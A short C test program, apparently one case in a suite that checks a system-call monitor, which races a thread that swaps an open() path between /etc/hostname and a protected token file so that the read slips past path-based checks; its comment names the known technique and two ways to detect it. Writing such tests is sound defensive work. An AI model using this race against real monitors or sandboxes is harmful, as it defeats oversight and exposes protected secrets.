// SPDX-License-Identifier: Apache-2.0
/*
 * Trick: A thread flips the path between a harmless file and the token while it is being opened.
 * Known from: "Phantom Attack" (DEF CON 29), and Watson's paper on system call wrappers (2007).
 * First: open family: the path at entry, the kernel's own file at exit
 * Second: fanotify on the planted inode
 */
#include "trick.h"
#include <pthread.h>

#define TRIES 50000

static const char innocent[] = "////////////////etc/hostname", target[] = "/" TOKEN;
static char path[sizeof(innocent)];

static void *flip(void *unused)
{
	for (;;) {
		memcpy(path, target, sizeof(path));
		memcpy(path, innocent, sizeof(path));
	}
	return unused;
}

int main(void)
{
	pthread_t thread;
	char text[512];

	_Static_assert(sizeof(innocent) == sizeof(target), "one takes the other's place");
	pthread_create(&thread, NULL, flip, NULL);
	for (int i = 0; i < TRIES; i++) {
		int fd = open(path, O_RDONLY);
		ssize_t size = read(fd, text, sizeof(text));

		close(fd);
		if (size > 0 && is_token(text, size))
			performed();
	}
	errx(1, "the race was never won");
}
